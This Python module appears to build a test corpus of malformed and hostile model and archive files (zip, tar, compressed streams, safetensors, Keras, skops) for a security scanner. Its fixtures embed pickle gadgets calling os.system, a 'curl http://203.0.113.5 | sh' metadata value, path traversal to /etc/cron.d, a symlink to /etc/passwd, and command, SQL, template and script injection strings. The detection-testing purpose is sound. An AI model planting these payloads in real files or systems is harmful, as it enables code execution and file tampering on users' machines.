"""The sixth corpus: archives, packed streams, and files of other worlds."""

# ruff: noqa: E501, RUF005  tables of cases, one a line

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zlib
from collections.abc import Callable
from typing import Any

import numpy as np
from carriers import COMMAND, torch_zip, zipped
from fifth_folders import js, safetensors, tar
from fourth import OS
from fourth_folders import good
from safetensors.numpy import save as save_numpy
from sixth import DANGER, ODD, UNKNOWN, file, folder
from sixth_pickles import ELF, ONE, SCRIPT, weights

TORCH = torch_zip(weights(ONE), **{"data/0": bytes(16)})


def _entry(
    name: str, data: bytes, method: int = 0, packed: bytes | None = None, **other: Any
) -> tuple[bytes, bytes]:
    """Local header with data, and the entry of the directory, whose fields may differ."""
    body = data if packed is None else packed
    raw = name.encode()
    sizes = struct.pack("<III", zlib.crc32(data), len(body), len(data))
    flags = struct.pack("<HHH", 20, other.get("flags", 0), method) + b"\0\0\x21\0"
    extra = other.get("extra", b"")
    local = (
        b"PK\x03\x04"
        + flags
        + sizes
        + struct.pack("<HH", len(raw), len(extra))
        + raw
        + extra
        + body
    )
    central = other.get("central", b"")
    directory = (
        b"PK\x01\x02" + struct.pack("<H", other.get("made", 0x0314)) + flags + sizes
        + struct.pack("<HHHHHII", len(raw), len(central), 0, 0, 0, other.get("mode", 0o100644 << 16), 0)
        + raw + central
    )  # fmt: skip
    return local, directory


def _archive(entries: list[tuple[bytes, bytes]], before: bytes = b"", tail: bytes = b"") -> bytes:
    out, directory = bytearray(before), b""
    for local, entry in entries:
        at = struct.pack("<I", len(out))
        directory += entry[:42] + at + entry[46:]
        out += local
    start = len(out)
    end = struct.pack(
        "<HHHHIIH", 0, 0, len(entries), len(entries), len(directory), start, len(tail)
    )
    return bytes(out) + directory + b"PK\x05\x06" + end + tail


def _raw(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


NOTE = b"just a note about weights\n"
DEFLATED = _raw(NOTE)
ZIPS: dict[str, tuple[bytes, tuple[int, ...]]] = {
    "more_behind_the_packed_stream": (_archive([_entry("a.txt", NOTE, 8, DEFLATED + OS)]), ODD),
    "two_packed_streams_in_one": (_archive([_entry("a.txt", NOTE, 8, DEFLATED + _raw(OS))]), ODD),
    "packed_stream_without_an_end": (_archive([_entry("a.txt", NOTE, 8, DEFLATED[:-2])]), ODD),
    "packed_by_a_stored_block_of_nothing": (_archive([_entry("a.txt", NOTE, 8, b"\0\0\0\xff\xff" * 50 + DEFLATED)]), (0, 3, 4)),
    "packed_by_an_unknown_block": (_archive([_entry("a.txt", NOTE, 8, b"\x07" + DEFLATED)]), ODD),
    "stored_of_two_sizes": (_archive([_entry("a.txt", NOTE, 0, NOTE + OS)]), ODD),
    "dot_inside_a_path": (_archive([_entry("a/./data.txt", NOTE), _entry("a/data.txt", NOTE + NOTE)]), ODD),
    "two_strokes_in_a_path": (_archive([_entry("a//data.txt", NOTE), _entry("a/data.txt", NOTE + NOTE)]), ODD),
    "name_in_composed_and_not": (_archive([_entry("é.txt", NOTE, flags=0x800), _entry("é.txt", NOTE + NOTE, flags=0x800)]), ODD),
    "name_in_another_code_page": (_archive([(b"", b"")][:0] + [tuple(p.replace(b"a.txt", b"a\x82txt") for p in _entry("a.txt", NOTE))]), ODD),  # type: ignore[list-item]
    "name_with_a_colon": (_archive([_entry("C:evil.txt", NOTE)]), ODD),
    "names_of_a_file_and_its_folder": (_archive([_entry("a", NOTE), _entry("a/b.txt", NOTE)]), ODD),
    "zip64_in_one_header_only": (_archive([_entry("a.txt", NOTE, extra=b"\x01\0\x10\0" + struct.pack("<QQ", 5, 5))]), ODD),
    "extra_of_a_pickle": (_archive([_entry("a.txt", NOTE, extra=b"\xfe\xca" + struct.pack("<H", len(OS)) + OS)]), ODD),
    "extra_that_is_cut": (_archive([_entry("a.txt", NOTE, extra=b"\x01\0\xff\0x")]), ODD),
    "central_extra_of_a_pickle": (_archive([_entry("a.txt", NOTE, central=b"\xfe\xca" + struct.pack("<H", len(OS)) + OS)]), ODD),
    "owner_by_an_extra": (_archive([_entry("a.txt", NOTE, central=b"ux\x0b\0\x01\x04\0\0\0\0\x04\0\0\0\0")]), (0, 3, 4)),
    "link_to_elsewhere": (_archive([_entry("model.safetensors", b"/etc/passwd", mode=0o120777 << 16)]), DANGER),
    "pipe_member": (_archive([_entry("p", b"", mode=0o010644 << 16)]), ODD),
    "fat_with_a_volume": (_archive([_entry("a.txt", NOTE, made=0x14, mode=0x08)]), ODD),
    "tail_that_is_a_second_end": (_archive([_entry("a.txt", NOTE)], tail=b"PK\x05\x06" + bytes(18)), ODD),
    "tail_of_a_script": (_archive([_entry("a.txt", NOTE)], tail=SCRIPT[:200]), ODD),
    "safetensors_before_it": (_archive([_entry("a.txt", NOTE)], before=good()), ODD),
    "script_before_it": (_archive([_entry("__main__.py", b"import os\n")], before=b"#!/usr/bin/env python3\n"), (1, 4)),
    "main_module": (_archive([_entry("__main__.py", b"import os\nos.system('id')\n")]), UNKNOWN),
    "gadget_by_an_ending_of_text": (_archive([_entry("notes.txt", OS)]), DANGER),
    "gadget_as_a_folder": (_archive([_entry("a/", OS)]), ODD),
    "torch_in_torch": (torch_zip(weights(ONE), **{"data/0": bytes(16), "data/1": TORCH}), ODD),
    "torch_packed_by_gzip": (gzip.compress(torch_zip(OS), mtime=0), DANGER),
    "torch_in_a_tar_in_a_zip": (zipped({"x.tar": tar({"m.pt": torch_zip(OS)})}), DANGER),
    "encrypted_by_aes": (_archive([_entry("a.txt", NOTE, 99, b"x" * 40, flags=1, extra=b"\x01\x99\x07\0\x02\0AE\x03\x08\0")]), ODD),
    "many_ends": (_archive([_entry("a.txt", NOTE)]) + _archive([_entry("b.txt", OS)]), UNKNOWN),
    "zstandard_member": (_archive([_entry("a.txt", NOTE, 93, b"\x28\xb5\x2f\xfd" + bytes(20))]), ODD),
    "deflate64_member": (_archive([_entry("a.txt", NOTE, 9, DEFLATED)]), ODD),
    "imploded_member": (_archive([_entry("a.txt", NOTE, 6, DEFLATED)]), ODD),
    "central_directory_encrypted": (_archive([_entry("a.txt", NOTE, flags=0x2040)]), ODD),
    "signed_zip_of_an_application": (zipped({"META-INF/MANIFEST.MF": b"Main-Class: E\n", "E.class": b"\xca\xfe\xba\xbe\0\0\0\x34"}), UNKNOWN),
    "egg": (zipped({"EGG-INFO/PKG-INFO": b"Name: x\n", "x/__init__.py": b"import os\n"}), UNKNOWN),
    "office": (zipped({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), UNKNOWN),
    "epub": (zipped({"mimetype": b"application/epub+zip", "a.xhtml": b"<script>1</script>"}), ODD),
}  # fmt: skip
for _name, (_body, _codes) in ZIPS.items():
    file(f"zip6_{_name}", _body, _codes, "m.zip")

PADDED = lzma.compress(NOTE) + bytes(4)
CPIO = b"070701" + b"00000001" * 13 + b"TRAILER!!!\0"


def _pax(**pairs: str) -> bytes:
    body = io.BytesIO()
    with tarfile.open(
        fileobj=body, mode="w", format=tarfile.PAX_FORMAT, pax_headers=pairs
    ) as archive:
        info = tarfile.TarInfo("a.txt")
        info.size = len(NOTE)
        archive.addfile(info, io.BytesIO(NOTE))
    return body.getvalue()


def _tar(kind: bytes, name: str = "a.txt", target: str = "", data: bytes = NOTE) -> bytes:
    body = io.BytesIO()
    with tarfile.open(fileobj=body, mode="w", format=tarfile.GNU_FORMAT) as archive:
        info = tarfile.TarInfo(name)
        info.type, info.linkname = kind, target
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return body.getvalue()


PACKED: dict[str, tuple[bytes, tuple[int, ...], str]] = {
    "gzip_named_up": (b"\x1f\x8b\x08\x08" + bytes(6) + b"../../x\0" + gzip.compress(NOTE, mtime=0)[10:], ODD, "a.txt.gz"),
    "gzip_with_a_note": (b"\x1f\x8b\x08\x10" + bytes(6) + SCRIPT[:90].replace(b"\0", b"") + b"\0" + gzip.compress(NOTE, mtime=0)[10:], ODD, "a.txt.gz"),
    "gzip_of_reserved_flags": (b"\x1f\x8b\x08\xe0" + bytes(6) + gzip.compress(NOTE, mtime=0)[10:], ODD, "a.txt.gz"),
    "gzip_of_a_wrong_length": (gzip.compress(NOTE, mtime=0)[:-4] + b"\0\0\0\1", ODD, "a.txt.gz"),
    "gzip_of_another_method": (b"\x1f\x8b\x07" + gzip.compress(NOTE, mtime=0)[3:], ODD, "a.txt.gz"),
    "gzip_then_safetensors": (gzip.compress(NOTE, mtime=0) + good(), ODD, "a.gz"),
    "gzip_of_gadget_of_protocol_0": (gzip.compress(b"cos\nsystem\n(V" + COMMAND.encode() + b"\ntR.", mtime=0), DANGER, "a.bin"),
    "xz_with_padding": (PADDED, (0, 3, 4), "a.txt.xz"),
    "xz_padding_then_gadget": (PADDED + lzma.compress(OS), DANGER, "a.txt.xz"),
    "xz_by_delta": (lzma.compress(OS, filters=[{"id": lzma.FILTER_DELTA, "dist": 1}, {"id": lzma.FILTER_LZMA2}]), UNKNOWN, "a.xz"),
    "xz_by_a_processor": (lzma.compress(OS, filters=[{"id": lzma.FILTER_X86}, {"id": lzma.FILTER_LZMA2}]), UNKNOWN, "a.xz"),
    "xz_of_a_huge_window": (lzma.compress(OS, filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 29}]) if False else b"\xfd7zXZ\0\0\x04\xe6\xd6\xb4F\x02\0!\x01\x28" + bytes(20), ODD, "a.xz"),
    "xz_without_a_sum": (lzma.compress(OS, check=lzma.CHECK_NONE), UNKNOWN, "a.xz"),
    "bz2_of_nothing_then_gadget": (bz2.compress(b"") + OS, DANGER, "a.bz2"),
    "bz2_of_bz2_of_gadget": (bz2.compress(bz2.compress(OS)), DANGER, "a.bz2"),
    "zlib_of_gadget_in_gzip_in_xz": (lzma.compress(gzip.compress(zlib.compress(OS), mtime=0)), DANGER, "a.xz"),
    "zstandard_skipped_frame": (b"\x50\x2a\x4d\x18" + struct.pack("<I", len(OS)) + OS, UNKNOWN, "a.zst"),
    "brotli": (b"\x0b\x02\x80hello\x03", (4, 3, 1), "a.br"),
    "lzip": (b"LZIP\x01\x0c" + bytes(30), (4, 3), "a.lz"),
    "lzop": (b"\x89LZO\0\r\n\x1a\n" + bytes(40), (4, 3), "a.lzo"),
    "compress_of_unix": (b"\x1f\x9d\x90" + b"abcdef" * 9, (4, 3), "a.Z"),
    "arj": (b"\x60\xea" + bytes(60), (4, 3), "a.arj"),
    "ace": (bytes(7) + b"**ACE**" + bytes(60), (4, 3), "a.ace"),
    "cpio": (CPIO, (4, 3), "a.cpio"),
    "ar": (b"!<arch>\ndebian-binary   0           0     0     100644  4         `\n2.0\n", (4, 3, 1), "a.a"),
    "squashfs": (b"hsqs" + bytes(120), (4, 3), "a.sqsh"),
    "iso": (bytes(32769) + b"CD001" + bytes(4000), (4, 3), "a.iso"),
    "disk_image": (bytes(1080) + b"\x53\xef" + bytes(9000), (4, 3), "a.img"),
    "apple_disk": (bytes(600) + b"koly" + bytes(508), (4, 3), "a.dmg"),
    "compound_file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), (4, 3), "a.msi"),
    "windows_help": (b"ITSF" + bytes(200), (4, 3), "a.chm"),
    "flash": (b"CWS\x0a" + bytes(90), (4, 3), "a.swf"),
    "mach_o_fat": (b"\xca\xfe\xba\xbe\0\0\0\x02" + bytes(90), UNKNOWN, "a.bin"),
    "pe_of_eight_bytes": (b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0\x64\x86" + bytes(400), UNKNOWN, "a.bin"),
    "old_program": (b"MZ" + b"\x90" * 200, UNKNOWN, "a.com"),
    "bitcode": (b"BC\xc0\xde" + bytes(90), (4, 3, 1), "a.bc"),
    "cuda_binary": (b"\x50\xed\x55\xba" + bytes(90), (4, 3, 1), "a.fatbin"),
    "ptx": (b".version 7.0\n.target sm_80\n.entry k() { ret; }\n", (4, 3, 1), "a.ptx"),
    "spirv": (b"\x03\x02\x23\x07" + bytes(90), (4, 3, 1), "a.spv"),
    "metal_library": (b"MTLB" + bytes(90), (4, 3, 1), "a.metallib"),
    "hailo": (b"\x01HEF" + bytes(90), (4, 3, 1), "a.hef"),
    "ort_flatbuffer": (b"\x18\0\0\0ORTM" + bytes(90), (4, 3), "a.ort"),
    "mnn": (b"\x20\0\0\0" + bytes(90), (4, 3), "a.mnn"),
    "ncnn_text": (b"7767517\n1 1\nInput data 0 1 data\n", (4, 3), "a.param"),
    "ggml": (b"lmgg" + bytes(90), (4, 3), "a.bin"),
    "t7": (struct.pack("<i", 4) + struct.pack("<i", 1) + struct.pack("<i", 3) + b"V 1" + struct.pack("<i", 13) + b"nn.Sequential", (4, 3, 1), "a.t7"),
    "t7_function": (struct.pack("<ii", 6, 1) + struct.pack("<i", 5) + b"\x1bLuaQ", (4, 3, 1), "a.t7"),
    "ubjson": (b"{L\0\0\0\0\0\0\0\x07learner{", (4, 3), "a.ubj"),
    "zarr_with_pickles": (js({"zarr_format": 2, "shape": [1], "chunks": [1], "dtype": "|O", "filters": [{"id": "pickle"}], "compressor": None, "fill_value": None, "order": "C"}), ODD, "zarr.json"),
    "hdf5_behind_a_block": (bytes(512) + b"\x89HDF\r\n\x1a\n" + bytes(200), (4, 3), "a.h5"),
    "arrow_stream": (b"\xff\xff\xff\xff\x10\0\0\0" + bytes(60), (4, 3), "a.arrows"),
    "flax": (b"\x82\xa6params\x81\xa6kernel\xc7\x05\x01hello", (4, 3), "flax_model.msgpack"),
    "msgpack_of_a_pickle": (b"\x81\xa1k\xc4" + bytes([len(OS)]) + OS, ODD, "a.msgpack"),
    "cbor": (b"\xa1\x61k\x58" + bytes([len(OS)]) + OS, ODD, "a.cbor"),
    "marshalled_array": (b"\x04\x08[\x06i\x06", (4, 3), "a.rb.bin"),
    "java_object": (b"\xac\xed\0\x05sr\0\x11java.util.HashMap", UNKNOWN, "a.ser"),
    "dot_net_object": (b"\0\x01\0\0\0\xff\xff\xff\xff\x01\0\0\0\0\0\0\0", (4, 3, 1), "a.bin"),
    "php_object": (b'O:8:"Evil\\Obj":1:{s:1:"c";s:2:"id";}', (0, 1, 3, 4), "a.txt"),
    "perl_stored": (b"pst0\x05\x0b\x0812345678", (4, 3), "a.sto"),
    "r_stored": (b"X\n\0\0\0\x03\0\x04\x02\0\0\x03\x05\0", (4, 3), "a.rds"),
    "matlab_4": (struct.pack("<iiiii", 0, 1, 1, 0, 2) + b"x\0" + bytes(8), (4, 3), "a.mat"),
    "matlab_5_with_a_function": (b"MATLAB 5.0 MAT-file" + b" " * 105 + b"\0\x01IM" + bytes(60), (4, 3), "a.mat"),
    "tar_of_a_path_in_pax": (_pax(path="../../../etc/cron.d/x"), ODD, "a.tar"),
    "tar_of_a_global_header": (_pax(comment="x" * 3000), ODD, "a.tar"),
    "tar_hard_link": (_tar(tarfile.LNKTYPE, target="/etc/passwd", data=b""), UNKNOWN, "a.tar"),
    "tar_block_device": (_tar(tarfile.BLKTYPE, data=b""), UNKNOWN, "a.tar"),
    "tar_contiguous": (_tar(tarfile.CONTTYPE, data=OS), UNKNOWN, "a.tar"),
    "tar_volume_label": (_tar(b"V", data=b""), ODD, "a.tar"),
    "tar_of_many_volumes": (_tar(b"M"), ODD, "a.tar"),
    "tar_of_a_long_name": (_tar(tarfile.REGTYPE, "a/" * 90 + "../" * 99 + "x"), ODD, "a.tar"),
    "tar_with_a_gadget_as_a_note": (_tar(tarfile.REGTYPE, "README.txt", data=OS), DANGER, "a.tar"),
    "tar_without_an_end": (_tar(tarfile.REGTYPE, data=OS)[:1024], UNKNOWN, "a.tar"),
    "tar_with_more_behind_its_end": (_tar(tarfile.REGTYPE) + OS, UNKNOWN, "a.tar"),
    "sharfile": (b"#!/bin/sh\n# This is a shell archive\nsed 's/^X//' > x << 'EOF'\nXid\nEOF\n", UNKNOWN, "a.txt"),
    "binhex": (b"(This file must be converted with BinHex 4.0)\n\n:abcdef:\n", ODD, "a.hqx"),
    "mail_message": (b"From: a@b\nContent-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n" + base64.b64encode(OS), ODD, "a.eml"),
    "certificate_of_a_pickle": (b"-----BEGIN CERTIFICATE-----\n" + base64.b64encode(OS) + b"\n-----END CERTIFICATE-----\n", ODD, "a.txt"),
    "postscript": (b"%!PS\n(%pipe%id) (r) file pop\n", ODD, "a.txt"),
    "postscript_named": (b"%!PS-Adobe-3.0\n%%EOF\n", ODD, "a.eps"),
    "metafile": (b"\xd7\xcd\xc6\x9a" + bytes(40), (4, 3), "a.wmf"),
    "font": (b"\0\x01\0\0\0\x04" + bytes(80), (4, 3), "a.ttf"),
    "text_of_two_kinds": (b"\xef\xbb\xbf\xff\xfe" + "import os".encode("utf-16-le"), ODD, "a.txt"),
}  # fmt: skip
for _name, (_body, _codes, _handed) in PACKED.items():
    file(f"packed6_{_name}", _body, _codes, _handed)

F4 = bytes(64)


def _st(header: dict[str, Any] | str, data: bytes = F4) -> bytes:
    return safetensors(header if isinstance(header, str) else json.dumps(header), data)


def _one(**more: Any) -> dict[str, Any]:
    return {"w": {"dtype": "F32", "shape": [16], "data_offsets": [0, 64]}, **more}


SAFE: dict[str, tuple[Callable[[], bytes], tuple[int, ...]]] = {
    "metadata_key_by_escapes": (lambda: _st('{"__meta\\u0064ata__":{"dtype":"F32","shape":[16],"data_offsets":[0,64]}}'), ODD),
    "metadata_by_escapes": (lambda: _st('{"__metadata\\u005f_":{"x":"import os"},"w":{"dtype":"F32","shape":[16],"data_offsets":[0,64]}}'), (0, 3, 4)),
    "metadata_of_a_template": (lambda: _st(_one(__metadata__={"chat_template": "{{ ''.__class__.__mro__ }}"})), ODD),
    "metadata_of_base64": (lambda: _st(_one(__metadata__={"note": base64.b64encode(OS).decode()})), ODD),
    "metadata_of_a_class": (lambda: _st(_one(__metadata__={"format": "pt", "_class": "os.system", "args": COMMAND})), ODD),
    "metadata_of_a_pickle_of_protocol_0": (lambda: _st(_one(__metadata__={"opt": "cos\nsystem\n(Vid\ntR."})), ODD),
    "metadata_of_a_command": (lambda: _st(_one(__metadata__={"post_load": "curl http://203.0.113.5 | sh"})), ODD),
    "metadata_of_escapes": (lambda: _st(_one(__metadata__={"title": "\x1b]0;x\x07\x1b[2J"})), ODD),
    "metadata_turned": (lambda: _st(_one(__metadata__={"licence": "MIT \u202e gnihton"})), ODD),
    "metadata_of_an_empty_key": (lambda: _st(_one(__metadata__={"": "x"})), (0, 3, 4)),
    "type_of_four_bits": (lambda: _st({"w": {"dtype": "F4", "shape": [128], "data_offsets": [0, 64]}}), ODD),
    "type_of_six_bits": (lambda: _st({"w": {"dtype": "F6_E2M3", "shape": [64], "data_offsets": [0, 48]}}, bytes(48)), ODD),
    "type_in_small_letters": (lambda: _st({"w": {"dtype": "f32", "shape": [16], "data_offsets": [0, 64]}}), ODD),
    "shape_of_a_huge_number": (lambda: _st('{"w":{"dtype":"F32","shape":[1e1],"data_offsets":[0,40]}}', bytes(40)), ODD),
    "shape_with_a_leading_zero": (lambda: _st('{"w":{"dtype":"F32","shape":[016],"data_offsets":[0,64]}}'), ODD),
    "shape_with_a_sign": (lambda: _st('{"w":{"dtype":"F32","shape":[+16],"data_offsets":[0,64]}}'), ODD),
    "shape_of_minus_nothing": (lambda: _st('{"w":{"dtype":"F32","shape":[-0],"data_offsets":[0,0]},"v":{"dtype":"F32","shape":[16],"data_offsets":[0,64]}}'), (0, 3, 4)),
    "no_tensor_at_all": (lambda: _st("{}", b""), (0, 3, 4)),
    "tensor_of_nothing_far_out": (lambda: _st(_one(v={"dtype": "F32", "shape": [0], "data_offsets": [9999, 9999]})), ODD),
    "names_that_are_one_after_folding": (lambda: _st({"w": {"dtype": "F32", "shape": [8], "data_offsets": [0, 32]}, "Ｗ": {"dtype": "F32", "shape": [8], "data_offsets": [32, 64]}}), ODD),
    "names_in_two_cases": (lambda: _st({"fc.weight": {"dtype": "F32", "shape": [8], "data_offsets": [0, 32]}, "FC.weight": {"dtype": "F32", "shape": [8], "data_offsets": [32, 64]}}), (0, 3, 4)),
    "names_with_a_prefix_and_without": (lambda: _st({"fc.weight": {"dtype": "F32", "shape": [8], "data_offsets": [0, 32]}, "module.fc.weight": {"dtype": "F32", "shape": [8], "data_offsets": [32, 64]}}), (0, 3, 4)),
    "name_of_a_command": (lambda: _st({"$(id)": {"dtype": "F32", "shape": [16], "data_offsets": [0, 64]}}), ODD),
    "name_of_a_template": (lambda: _st({"{{7*7}}": {"dtype": "F32", "shape": [16], "data_offsets": [0, 64]}}), ODD),
    "name_of_sql": (lambda: _st({"w'; DROP TABLE x;--": {"dtype": "F32", "shape": [16], "data_offsets": [0, 64]}}), ODD),
    "comment_at_its_end": (lambda: _st(json.dumps(_one()) + "// x"), ODD),
    "comma_at_its_end": (lambda: _st(json.dumps(_one())[:-1] + ",}"), ODD),
    "two_documents": (lambda: _st(json.dumps(_one()) + "{}"), ODD),
    "tabs_before_it": (lambda: _st("\t\t" + json.dumps(_one())), ODD),
    "header_in_wide_letters": (lambda: struct.pack("<Q", len(json.dumps(_one()).encode("utf-16-le"))) + json.dumps(_one()).encode("utf-16-le") + F4, ODD),
    "header_with_a_mark": (lambda: _st("\ufeff" + json.dumps(_one())), ODD),
    "elf_as_weights": (lambda: save_numpy({"w": np.frombuffer(ELF[:904], "f4")}), ODD),
    "gadget_as_bytes": (lambda: save_numpy({"w": np.frombuffer(OS, "u1")}), ODD),
    "script_in_low_bytes": (lambda: save_numpy({"w": __import__("sixth_pickles")._low(SCRIPT).numpy()}), ODD),
    "page_as_numbers": (lambda: save_numpy({"w": np.frombuffer(b"<script>alert(document.domain)</script>" * 9, "u1").astype("i4")}), ODD),
}  # fmt: skip
for _name, (_make, _codes) in SAFE.items():
    file(f"safe6_{_name}", _make, _codes, "m.safetensors")


# Keras as a folder, in its own archive and as a text
def _keras(*layers: dict[str, Any]) -> dict[str, Any]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "s", "layers": list(layers)},
        "registered_name": None,
    }


def _layer(package: str, name: str, **config: Any) -> dict[str, Any]:
    return {"module": package, "class_name": name, "config": config, "registered_name": None}


KERAS: dict[str, dict[str, Any]] = {
    "torch_wrapper": _keras(_layer("keras.layers", "TorchModuleWrapper", module=base64.b64encode(OS).decode())),
    "file_of_a_stranger": _keras(_layer("keras.utils", "get_file", origin="http://203.0.113.5/x")),
    "model_in_a_model": _keras(_layer("keras.models", "load_model", filepath="http://203.0.113.5/x.keras")),
    "unsafe_switched_on": _keras(_layer("keras.config", "enable_unsafe_deserialization")),
    "words_from_a_file": _keras(_layer("keras.layers", "StringLookup", vocabulary="/etc/passwd")),
    "numpy_load": _keras({"module": "numpy", "class_name": "load", "config": {"file": "x.npy", "allow_pickle": True}}),
    "function_by_name": _keras(_layer("keras.layers", "Dense", activation={"module": "os", "class_name": "function", "config": "system", "registered_name": "system"})),
    "registered_by_a_stranger": _keras({"module": None, "class_name": "Evil", "config": {}, "registered_name": "evil>Evil"}),
}  # fmt: skip
for _name, _document in KERAS.items():
    file(f"keras6_{_name}", js(_document), ODD, "model.json")
    _parts = {
        "config.json": js(_document),
        "metadata.json": js({"keras_version": "3.12.0"}),
        "model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(60),
    }
    file(f"keras6_{_name}_packed", zipped(_parts), (1, 4), "m.keras")
    folder(f"keras6_{_name}_folder", dict(_parts), (1, 4))


# skops
def _skops(schema: dict[str, Any], **members: bytes) -> bytes:
    told = {"protocol": 2, "_skops_version": "0.13.0", **schema}
    return zipped({"schema.json": js(told), **members})


def _json_node(content: str) -> dict[str, Any]:
    return {
        "__class__": "str",
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": content,
        "is_json": True,
        "__id__": 1,
    }


SKOPS: dict[str, tuple[bytes, tuple[int, ...]]] = {
    "function": (_skops({"__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}, "__id__": 1}), UNKNOWN),
    "partial": (_skops({"__class__": "partial", "__module__": "functools", "__loader__": "PartialNode", "content": {"func": {}, "args": [], "kwds": {}, "namespace": []}, "__id__": 1}), UNKNOWN),
    "class": (_skops({"__class__": "type", "__module__": "builtins", "__loader__": "TypeNode", "content": {"__class__": "Popen", "__module__": "subprocess"}, "__id__": 1}), UNKNOWN),
    "ring": (_skops({"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [{"__loader__": "CachedNode", "__id__": 1, "cached": True}], "__id__": 1}), ODD),
    "cache_of_nothing": (_skops({"__loader__": "CachedNode", "__class__": "x", "__module__": "y", "__id__": 77, "cached": True}), ODD),
    "array_outside": (_skops({"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "numpy", "file": "../../x.npy", "__id__": 1}), ODD),
    "array_of_objects": (_skops({"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "numpy", "file": "1.npy", "__id__": 1}, **{"1.npy": b"\x93NUMPY\x01\0\x76\0" + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n" + OS}), UNKNOWN),
    "unknown_loader": (_skops({"__class__": "x", "__module__": "y", "__loader__": "EvalNode", "content": "1", "__id__": 1}), ODD),
    "protocol_of_the_future": (_skops({**_json_node('"x"'), "protocol": 99}), ODD),
    "text_of_a_gadget": (_skops(_json_node(json.dumps(OS.decode("latin-1")))), ODD),
    "json_in_json_deep": (_skops(_json_node("[" * 100_000)), ODD),
    "two_schemas": (zipped({"schema.json": js({**_json_node('"x"'), "protocol": 2}), "SCHEMA.json": js({})}), ODD),
    "bytes": (_skops({"__class__": "bytes", "__module__": "builtins", "__loader__": "BytesNode", "content": "1.bin", "__id__": 1}, **{"1.bin": OS}), ODD),
    "reduced": (_skops({"__class__": "Tree", "__module__": "sklearn.tree._tree", "__loader__": "TreeNode", "reduce": {}, "content": {}, "__id__": 1}), ODD),
    "state_of_a_class_that_lies": (_skops({"__class__": "LogisticRegression", "__module__": "sklearn.linear_model.evil", "__loader__": "ObjectNode", "content": {}, "__id__": 1}), (0, 1, 4)),
}  # fmt: skip
for _name, (_body, _codes) in SKOPS.items():
    file(f"skops6_{_name}", _body, _codes, "m.skops")
